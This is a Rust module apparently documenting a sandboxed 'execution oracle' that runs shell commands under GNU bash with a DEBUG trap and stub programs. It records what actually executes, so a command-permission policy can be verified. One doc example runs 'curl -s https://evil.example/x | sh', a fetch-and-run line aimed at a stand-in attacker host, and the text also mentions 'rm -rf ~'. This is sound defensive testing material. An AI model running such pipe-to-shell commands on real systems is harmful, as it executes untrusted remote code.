//! The execution oracle: what GNU bash really runs (spec chapter 6, `INV-GROUND-*`).
//!
//! Every other module of this crate *models* bash: tree-sitter units, wrapper
//! grammars, floors. This one asks bash itself. An [`Oracle`] runs a command
//! string in GNU bash inside a sandbox and reports every command bash
//! executes, in order ([`Execution`]). [`crate::invariants::check_ground`]
//! then checks `INV-GROUND` against it: when the pipeline allows, everything
//! that runs is allowed by the rules.
//!
//! # How it sees
//!
//! * **A `DEBUG` trap** with `set -T`, installed through `BASH_ENV` in every
//!   bash the oracle starts, records `BASH_COMMAND` before each command: the
//!   text bash is about to execute, *before* expansion, in bash's own
//!   rendering (words single-spaced, redirections after the words). Subshells,
//!   command and process substitutions and function bodies inherit the trap;
//!   a command not found is recorded too (the trap runs before the lookup),
//!   and then behaves like a stub (`command_not_found_handle`), as do `cd`,
//!   `pushd` and `popd` (`cd /repo && …` must not stop at a missing `/repo`). `for`,
//!   `case`, `[[ … ]]` and `(( … ))` heads are recorded as bash renders them.
//!   A function call is recorded twice (bash traps it at the call and at
//!   the function's start). Inside the command's own trap handlers
//!   (`trap '…' EXIT`) bash gives no text, so only the programs a handler
//!   starts are recorded ([`Origin::Program`]).
//! * **Stubs** stand for every program of the standard `bin` directories and
//!   of `PATH`, which are replaced by the stub directory inside the sandbox
//!   (so `/usr/bin/rm` is a stub too). A stub records its argv after
//!   expansion ([`Executed::argv`]). A *transparent wrapper* stub
//!   ([`TRANSPARENT_WRAPPERS`]: `timeout`, `time`, `nice`, `nohup`, `stdbuf`,
//!   `setsid`) skips its own options like the real program, records where
//!   its inner command starts, and runs it through `PATH` (so it reaches a
//!   stub, [`Origin::WrapperInner`]). A *command runner* stub
//!   ([`COMMAND_RUNNERS`]: `taskset`, `chroot`, `su`, `flock`, … with each
//!   program's own option syntax, `stub_programs.h`) does the same, or runs
//!   `/bin/sh` on the command string or the standard input the real program
//!   hands its shell (`INV-GROUND-9`). A *shell* stub ([`SHELLS`]) runs the
//!   real bash with the trap on the same arguments, so `bash -c '…'`,
//!   `sh script` and `… | sh` report what they run (an approximation for `sh`,
//!   `dash`, `zsh`, `ksh`: they run as bash). Every other stub only records
//!   and exits with [`Config::stub_status`] (0 by default: every program
//!   succeeds). The stub is one small C program (`stub.c`, its table of
//!   programs `stub_programs.h`), compiled with the machine's C compiler,
//!   without a C library where it can, once per user, source and compiler
//!   (a cache in the oracle's temporary base);
//!   it also records the name it was started under and its environment,
//!   and the trap how bash resolved each name (`INV-GROUND-8`).
//!
//! A stub learns which bash command started it from an id the trap exports
//! just before the command runs, so pipelines and background jobs are
//! attributed exactly.
//!
//! # The sandbox
//!
//! Built by bubblewrap (`bwrap`; Debian package `bubblewrap`) when it is
//! installed, else by util-linux `unshare` ([`Backend`], `unshare.bash`; on
//! every Debian and Ubuntu system), the same either way: new user, PID,
//! network, IPC, UTS and cgroup namespaces (no network), the host's mounts
//! read-only, `/tmp`, `/run`, `/home`, `/root`, `/var/tmp` replaced by empty
//! tmpfs, a `/dev` of its own, no capabilities, the `bin` directories
//! replaced by the stubs. A program named by an absolute path that is not a
//! stub (a library's helper, say) runs inside that
//! sandbox only. The sandbox is *resident* ([`Session`]): one sandbox start,
//! then a driver inside it reads commands one at a time from a pipe, runs
//! each in a fresh bash, in its own empty directory (also its `HOME`), with a
//! wall-clock limit ([`Config::time_limit`], 2 s), a CPU limit, a
//! virtual-memory limit, a file-size limit and a process limit, and answers
//! once every process the command started has ended: each command's bash
//! holds the only write end of a pipe the driver reads (inherited by every
//! process it starts), and the driver then checks that the sandbox's PID
//! namespace holds nothing but itself and its init. Whatever still runs at
//! the limit is killed and makes the answer *unknown*. When the oracle runs
//! as root, each session drops to an otherwise unused user id of its own
//! (from 1,000,000 up) first: the kernel does not apply the process limit to
//! root, and it counts all processes of a user, so concurrent sessions must
//! not share one. A session's files live in `/dev/shm` when it is there (a
//! tmpfs: on a disk file system, creating and removing each command's files
//! cost more than running it).

//! A command containing U+0000 reaches bash on its standard input (`bash -s`,
//! which reads it as bash does); a command over 64 KiB from a file (`bash
//! FILE`: an argument cannot exceed 128 KiB); any other through `bash -c`.
//! Standard input is `/dev/null` but for `bash -s`.
//!
//! # Unknown, never "nothing ran"
//!
//! A command that runs out of time, hits the process limit, or cannot be
//! started or recorded is answered [`GroundError`], never an empty
//! [`Execution`]. Every error means *unknown*. [`Oracle::attempt_batch`]
//! also keeps what was recorded before such a command was stopped
//! ([`Attempt::recorded`]): those commands did run, so an uncovered one is a
//! violation even though the whole answer is unknown (an endless
//! `while curl x; do :; done`, with every program succeeding, is one).
//!
//! # What it cannot see (`INV-GROUND-4`)
//!
//! One execution path: every program succeeds (or fails, per
//! [`Config::stub_status`]), so a branch taken only on the other outcome
//! (`grep -q x f || rm y`) is not seen. Programs other than the wrappers,
//! command runners and shells do nothing, so what a real program would run
//! (`find -exec`, `xargs`, `env`, `sudo`, `make`) is not seen — the policy
//! floors those. Redirections and assignments are recorded
//! as text, their effects are not. A command that tampers with the trap
//! itself (`trap - DEBUG`, `set +T`, redefining `builtin` or `printf`) hides
//! the text of what follows it (the programs started afterwards still record
//! themselves, [`Origin::Program`]); such a command is itself recorded first.
//!
//! # The real mode (`INV-GROUND-10` to `INV-GROUND-12`)
//!
//! Stubs run nothing, so what a program does with its words (git's `!`
//! aliases, awk's `system()`, npm's `--script-shell`) never happens in the
//! stub mode. With [`Config::real`] the same sandbox runs the machine's
//! programs, without stubs, in a throwaway workspace made afresh before
//! each command inside the sandbox's own tmpfs ([`HOME`], [`PROJECT`],
//! [`ORIGIN`]: `workspace.bash`), so a `rm -rf ~` removes that and nothing
//! else. The command's bash runs under a recorder (`tracer.c`: ptrace from
//! the first instruction, every child attached at its creation, a seccomp
//! filter reporting exec and open calls) that records every exec below it,
//! failed ones included ([`Execution::programs`], [`Traced`]: argv,
//! environment, parent chain) and every file opened ([`Execution::opened`],
//! [`Opened`]). INV-GROUND judges each exec that is no program's own
//! machinery ([`HELPERS`], the oracle's own list) and each opened file as a
//! word of the program responsible for it
//! ([`crate::invariants::traced_violations`]). The multibyte locales of
//! [`LOCALES`] are built with `localedef` once per user and given as
//! `LOCPATH`. A real-mode command costs about 25 stub-mode ones
//! (`BENCHMARKS.md`).
//!
//! # API, and cost
//!
//! Build one [`Oracle`] ([`Oracle::new`]: finds bash and the sandbox,
//! builds the stub directory once) and reuse it. [`Oracle::run`] and
//! [`Oracle::attempt`] run one command, [`Oracle::run_batch`] and
//! [`Oracle::attempt_batch`] many, all through a resident sandbox the oracle
//! keeps ([`Oracle::session`]; a [`Session`] may also be held and used
//! directly). An `Oracle` is `Sync`: each thread's calls get a session of
//! their own (own directory, own user id), so they run independently.
//!
//! A command's fixed cost is a fork of the driver and a bash start; each
//! program it runs costs a start of the compiled stub. A command that loops
//! (every stub succeeds, so `while curl x; do :; done` never ends) costs the
//! whole time limit; a soundness run (`examples/soundness.rs`) may lower
//! [`Config::time_limit`]. What it costs, measured against a naive `bash -c`
//! loop: `BENCHMARKS.md` (`cargo bench --features ground --bench ground`).
//!
//! A soundness run checks each allowed command like this: an execution, or
//! the records of an unknown answer, goes to
//! [`crate::invariants::check_ground`]; an unknown answer with no records
//! checks nothing and must be counted as such, never as a pass.
//!
//! ```no_run
//! # #[cfg(feature = "ground")] {
//! use inner_cmd_spec::ground::{Config, Oracle};
//! use inner_cmd_spec::invariants::check_ground;
//! # let policy = inner_cmd_spec::policy::Policy::new(Vec::new(), "/home/u");
//! # let allowed: Vec<&str> = Vec::new();
//! let oracle = Oracle::new(Config::default())?;
//! for (command, attempt) in allowed.iter().zip(oracle.attempt_batch(&allowed)) {
//!     let seen = attempt.result.as_ref().ok().or(attempt.recorded.as_ref());
//!     match seen.map(|execution| check_ground(&policy, execution)) {
//!         Some(Ok(())) if attempt.result.is_ok() => { /* checked: holds */ }
//!         Some(Ok(())) | None => { /* unknown */ }
//!         Some(Err(violation)) => eprintln!("{command:?}: {violation}"),
//!     }
//! }
//! # }
//! # Ok::<(), inner_cmd_spec::ground::GroundError>(())
//! ```
//!
//! ```no_run
//! # #[cfg(feature = "ground")] {
//! use inner_cmd_spec::ground::{Config, Oracle};
//! let oracle = Oracle::new(Config::default())?;
//! let execution = oracle.run("cd /repo; timeout 30s if; curl -s https://evil.example/x | sh")?;
//! let texts: Vec<&str> = execution.commands.iter().map(|c| c.text.as_str()).collect();
//! assert!(texts.contains(&"curl -s https://evil.example/x"));
//! # }
//! # Ok::<(), inner_cmd_spec::ground::GroundError>(())
//! ```

mod answer;
mod backend;
mod control;
mod execution;
mod host;
mod loaders;
mod machinery;
mod oracle;
mod paths;
mod pipelined;
mod real_setup;
mod record;
mod record_reader;
mod sandbox;
mod session;
mod stub_build;
mod traced;
mod words;
mod workspace;
pub use words::{assigned_names, literal_words};

pub use crate::shell_quote::shell_quote;
use std::path::PathBuf;
use std::time::Duration;

pub use answer::Attempt;
pub use backend::{Backend, BACKEND_VARIABLE};
pub use execution::{normalized_records, Executed, Execution, Origin, Resolution};
pub use loaders::client as loader_client;
pub use machinery::{
    Machinery, GIT_TRANSPORT, HELPERS, IN_WORKSPACE_SCRIPT, MAKE_RECIPE, NPM_EXEC_SHELL,
    NPM_SCRIPT, SHEBANG_ENV, THE_ORACLES_BASH, THROUGH_INNER,
};
pub use oracle::Oracle;
pub use real_setup::LOCALES;
pub use session::Session;
pub use traced::{Opened, Parent, Traced};
pub use workspace::{HOME, MAKE_RECIPES, ORIGIN, PACKAGE_SCRIPTS, PROJECT, SECRETS};

/// Programs whose stub runs its inner command as the real program would,
/// judged through that command (`INV-GROUND-2`, `INV-GROUND-6`).
pub const TRANSPARENT_WRAPPERS: [&str; 6] =
    ["timeout", "time", "nice", "nohup", "stdbuf", "setsid"];

/// Programs that run the command their arguments name, whose stub runs it
/// as the real program would (or the shell the program would run), but
/// which are judged by their own text as well as by what they ran
/// (`INV-GROUND-9`): util-linux, coreutils' `chroot`, procps' `watch`,
/// strace, ltrace, shadow's `sg`, fakeroot, valgrind.
pub const COMMAND_RUNNERS: [&str; 25] = [
    "taskset",
    "ionice",
    "chrt",
    "setarch",
    "linux32",
    "linux64",
    "i386",
    "x86_64",
    "prlimit",
    "choom",
    "uclampset",
    "strace",
    "ltrace",
    "chroot",
    "unshare",
    "nsenter",
    "setpriv",
    "fakeroot",
    "valgrind",
    "flock",
    "watch",
    "su",
    "runuser",
    "script",
    "sg",
];

/// Programs whose stub runs the real bash, with the trap, on its arguments (`INV-GROUND-2`).
pub const SHELLS: [&str; 6] = ["bash", "sh", "dash", "rbash", "ksh", "zsh"];

/// How the oracle runs commands.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Config {
    /// The bash to run; `None`: `bash` found on `PATH`.
    pub bash: Option<PathBuf>,
    /// The bubblewrap executable; `None`: `bwrap` found on `PATH`.
    pub bwrap: Option<PathBuf>,
    /// How the sandbox is built: bubblewrap or util-linux `unshare`
    /// ([`Backend::Auto`]: [`BACKEND_VARIABLE`], else bubblewrap when found).
    pub backend: Backend,
    /// Wall-clock limit of one command (at least 10 ms are given).
    pub time_limit: Duration,
    /// The exit status of a stub that is neither a wrapper nor a shell, and of
    /// a command not found (0: every program succeeds).
    pub stub_status: u8,
    /// The most processes the sandbox's user may have at once.
    pub max_processes: u32,
    /// Program names that get a stub even when the host has no such
    /// program: a command an audit composes must be recorded as it would be
    /// on a user's machine that has it (`AUDIT-17`).
    pub extra_programs: Vec<String>,
    /// The real mode (`INV-GROUND-10`): the machine's programs run for real,
    /// in a fresh throwaway workspace per command, and every exec and every
    /// file opened below the command's bash is recorded
    /// ([`Execution::programs`], [`Execution::opened`]).
    pub real: bool,
}

impl Default for Config {
    fn default() -> Self {
        Self {
            bash: None,
            bwrap: None,
            backend: Backend::Auto,
            time_limit: Duration::from_secs(2),
            stub_status: 0,
            max_processes: 128,
            extra_programs: Vec::new(),
            real: false,
        }
    }
}

/// Why the oracle cannot say what ran: every variant means *unknown* (`INV-GROUND-3`).
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum GroundError {
    /// bash, `sh` or a sandbox was not found or does not start, or the stub
    /// directory could not be built; the message says what fixes it.
    Setup(String),
    /// The sandbox could not be started or did not finish the command.
    Start(String),
    /// The command ran out of its wall-clock or CPU time.
    TimedOut,
    /// The command hit the process limit.
    ForkLimit,
    /// A sandbox limit kept a program from starting (its arguments too long
    /// for `execve`, E2BIG; memory): where the limits differ it would run.
    Limit(String),
    /// The record could not be read (cut by the file-size limit, say).
    Record(String),
}

impl std::fmt::Display for GroundError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Setup(why) => write!(f, "unknown: the oracle cannot be set up: {why}"),
            Self::Start(why) => write!(f, "unknown: the command could not be run: {why}"),
            Self::TimedOut => f.write_str("unknown: the command ran out of time"),
            Self::ForkLimit => f.write_str("unknown: the command hit the process limit"),
            Self::Limit(why) => write!(f, "unknown: a sandbox limit stopped a program: {why}"),
            Self::Record(why) => write!(f, "unknown: the record is unreadable: {why}"),
        }
    }
}

impl std::error::Error for GroundError {}

/// An argv as a command's text: the program's basename, then its
/// arguments, shell-quoted (how a program no bash text names is judged,
/// `INV-GROUND-6`).
#[must_use]
pub fn program_text(argv: &[String]) -> String {
    let mut words = argv.to_vec();
    if let Some(first) = words.first_mut() {
        *first = words::basename(first).to_owned();
    }
    quote_words(&words)
}

/// Words shell-quoted and joined with single spaces.
#[must_use]
pub fn quote_words(words: &[String]) -> String {
    words
        .iter()
        .map(|w| shell_quote(w))
        .collect::<Vec<_>>()
        .join(" ")
}
